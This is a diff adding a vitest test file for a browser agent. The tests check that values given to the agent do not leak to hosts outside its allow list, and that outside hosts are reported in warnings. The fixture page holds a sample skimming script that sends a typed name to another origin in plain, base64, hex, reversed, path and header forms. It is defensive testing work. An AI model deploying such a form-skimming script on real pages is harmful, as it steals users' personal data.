@@ -1,0 +1,84 @@
+/** A run that was given values tells which hosts beside its list its pages asked, and none of them hears a value. */
+import { expect, test } from "vitest";
+import { z } from "zod";
+import { succeed, useOwnStage } from "../scenarios/support/stage.ts";
+import { useModelServer, type ModelRequestSeen } from "../support/model-server.ts";
+import { useSite } from "../support/site.ts";
+import { done, indexOf, says } from "./support/replies.ts";
+import { modelFlags } from "./support/scripted-server.ts";
+
+const VALUE = "Ada Lovelace of Soho";
+
+/** What the page has been given leaves it in many spellings, and something harmless does, too. */
+const LEAKY = `<!doctype html><title>Form</title><h1>Form</h1><input name="name" placeholder="Your name">
+  <script>
+    const other = location.origin.replace("127.0.0.1", "localhost");
+    const load = (path) => { new Image().src = other + path };
+    load("/harmless.png");
+    document.querySelector("input").addEventListener("input", ({ target: { value } }) => {
+      if (value !== ${JSON.stringify(VALUE)}) return;
+      load("/taken/plain?d=" + encodeURIComponent(value));
+      load("/taken/base64?d=" + btoa(value));
+      load("/taken/path/" + encodeURIComponent(encodeURIComponent(value)) + ".png");
+      load("/taken/hex?d=" + Array.from(value, (one) => one.charCodeAt(0).toString(16)).join(""));
+      load("/taken/backwards?d=" + encodeURIComponent(Array.from(value).reverse().join("")));
+      fetch(other + "/by-header", { headers: { "x-name": btoa(value) } }).catch(() => {});
+      fetch(other + "/harmless.json").catch(() => {});
+    });
+  </script>`;
+
+const told: string[] = [];
+const site = await useSite({
+  "/": LEAKY,
+  "/harmless.png": "",
+  "/harmless.json": "{}",
+  // The browser asks first whether it may send the header, without its value.
+  "/by-header": ({ headers }, response) => {
+    told.push(...(headers["x-name"] ?? ""));
+    response.setHeader("access-control-allow-origin", "*");
+    response.setHeader("access-control-allow-headers", "x-name").end();
+  },
+});
+const model = await useModelServer();
+const { rest } = await useOwnStage([...modelFlags(model.url), "--allow-private-network"]);
+const host = new URL(site.url).host.replace("127.0.0.1", "localhost");
+
+function fill(request: ModelRequestSeen, number: number): string {
+  if (number === 1)
+    return says({ input_text: { index: indexOf(request, "Your name"), text: VALUE } });
+  return done("The name was entered.", { success: false });
+}
+
+const Ended = z.looseObject({
+  error: z.looseObject({}),
+  result: z.looseObject({ warnings: z.array(z.string()) }),
+});
+
+test("no value leaves by a part of a page, and the hosts that were asked are told", async () => {
+  model.say(fill);
+  const task = await succeed(rest, "agent.run", {
+    intent: "Enter the name",
+    url: `${site.url}/`,
+    allowed_hosts: ["127.0.0.1"],
+    fields: { name: VALUE },
+    replay: "never",
+  });
+  const { warnings } = Ended.parse(task).result;
+  expect(warnings).toContainEqual(expect.stringContaining(`hosts beside the list: ${host} (3).`));
+  expect(warnings).toContainEqual(expect.stringMatching(/were stopped, .*localhost:\d+ \(6\)\.$/));
+  const asked = site.requests.map((path) => path.replace(/\?.*/, ""));
+  expect(asked.filter((path) => path.startsWith("/taken"))).toEqual([]);
+  expect(told).toEqual([]);
+  expect(asked).toContain("/harmless.json");
+});
+
+test("a run without values tells nothing of other hosts", async () => {
+  model.say(() => done("Nothing to do.", { success: false }));
+  const task = await succeed(rest, "agent.run", {
+    intent: "Look at the page",
+    url: `${site.url}/`,
+    allowed_hosts: ["127.0.0.1"],
+    replay: "never",
+  });
+  expect(Ended.parse(task).result.warnings.join()).not.toContain("beside the list");
+});
